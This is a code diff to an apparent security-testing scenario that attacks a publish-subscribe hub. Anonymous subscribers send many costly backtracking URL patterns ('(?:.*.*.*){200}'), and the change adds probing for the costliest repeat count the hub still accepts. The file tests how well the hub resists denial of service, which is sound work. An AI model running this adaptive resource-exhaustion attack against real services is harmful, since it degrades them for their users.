@@ -11,6 +11,10 @@ import java.util.List;
  * Hole 1: anonymous subscribers with many distinct, costly URL patterns, while an ordinary
  * publisher posts to a new topic at a steady rate, so every pattern is matched against every new
  * topic on the hub's dispatcher.
+ *
+ * <p>The attacker adapts as a real one would: if the hub refuses the issue's pattern
+ * ({@code {200}} repeats) it probes for the costliest repeat count the hub still accepts and
+ * attacks with that, so the run measures the hub's matching budget, not only its compile limit.
  */
 public final class ExpensiveSelectors implements Scenario {
 
@@ -34,7 +38,7 @@ public final class ExpensiveSelectors implements Scenario {
     @Override
     public String title() {
         return connections + " anonymous connections × " + patternsPerConnection
-                + " distinct URL patterns `https://example.com/:gNxM((?:.*.*.*){200})`, " + publishesPerSecond
+                + " distinct URL patterns `https://example.com/:gNxM((?:.*.*.*){200})` (or the costliest the hub accepts), " + publishesPerSecond
                 + " publishes/s to new topics, " + duration.toSeconds() + " s";
     }
 
@@ -43,9 +47,46 @@ public final class ExpensiveSelectors implements Scenario {
         return "--allow-anonymous";
     }
 
+    /** Repeat counts tried, costliest first: the pattern, then smaller ones. */
+    private static final int[] REPEATS = {200, 160, 120, 100, 80, 60, 40, 20, 10};
+
     /** The costly pattern number {@code m} of connection {@code n}. */
     static String pattern(int n, int m) {
-        return "https://example.com/:g" + n + "x" + m + "((?:.*.*.*){200})";
+        return pattern(n, m, 200);
+    }
+
+    static String pattern(int n, int m, int repeats) {
+        return "https://example.com/:g" + n + "x" + m + "((?:.*.*.*){" + repeats + "})";
+    }
+
+    /** The costliest repeat count one probe subscription gets 200 for; 0 if none. */
+    private static int costliestAccepted(HostileTarget target, AttackContext context)
+            throws InterruptedException {
+        for (int repeats : REPEATS) {
+            SseWatch probe;
+            try {
+                probe = SseWatch.connect(target, "matchURLPattern=" + queryValue(pattern(-1, -1, repeats)), null);
+            } catch (IOException e) {
+                context.refusals().record("attacker probe", e.getClass().getSimpleName());
+                continue;
+            }
+            try {
+                probe.awaitStatus(System.nanoTime() + Duration.ofSeconds(10).toNanos());
+                if (probe.status() == 200) {
+                    return repeats;
+                }
+                probe.await("\r\n\r\n", Duration.ofSeconds(1));
+                probe.await("costly", Duration.ofSeconds(1));
+                String text = probe.text();
+                int body = text.indexOf("\r\n\r\n");
+                String reason = body < 0 ? "" : text.substring(body + 4).strip();
+                context.note("a pattern with {" + repeats + "} repeats answered " + probe.status()
+                        + (reason.isEmpty() ? "" : ": " + reason.substring(0, Math.min(200, reason.length()))));
+            } finally {
+                probe.close();
+            }
+        }
+        return 0;
     }
 
     /**
@@ -66,11 +107,17 @@ public final class ExpensiveSelectors implements Scenario {
     @Override
     public void attack(HostileTarget target, AttackContext context) throws InterruptedException {
         List<SseWatch> watches = new ArrayList<>();
+        int repeats = costliestAccepted(target, context);
+        if (repeats == 0) {
+            context.note("the hub refused every probed pattern shape; publishing without the costly subscribers");
+        } else if (repeats != REPEATS[0]) {
+            context.note("attacking with {" + repeats + "} repeats, the costliest pattern the hub accepts");
+        }
         try {
-            for (int n = 0; n < connections; n++) {
+            for (int n = 0; n < connections && repeats > 0; n++) {
                 StringBuilder query = new StringBuilder();
                 for (int m = 0; m < patternsPerConnection; m++) {
-                    query.append(m == 0 ? "" : "&").append("matchURLPattern=").append(queryValue(pattern(n, m)));
+                    query.append(m == 0 ? "" : "&").append("matchURLPattern=").append(queryValue(pattern(n, m, repeats)));
                 }
                 try {
                     watches.add(SseWatch.connect(target, query.toString(), null));
@@ -94,9 +141,12 @@ public final class ExpensiveSelectors implements Scenario {
             context.note(accepted + " of " + connections + " costly subscriptions answered 200"
                     + (otherStatuses.isEmpty() ? "" : "; others: " + otherStatuses.stream().distinct().toList()
                         + " (-1: no answer within 10 s)"));
-            if (accepted == connections && connections > 0) {
+            if (accepted == connections && connections > 0 && repeats == REPEATS[0]) {
                 context.note("the hub accepted " + (long) accepted * patternsPerConnection
                         + " costly patterns from anonymous subscribers without a cost limit");
+            } else if (accepted > 0) {
+                context.note("the hub accepted " + (long) accepted * patternsPerConnection
+                        + " patterns of {" + repeats + "} repeats, the costliest its limit allows");
             }
             publishSteadily(target, context);
         } finally {
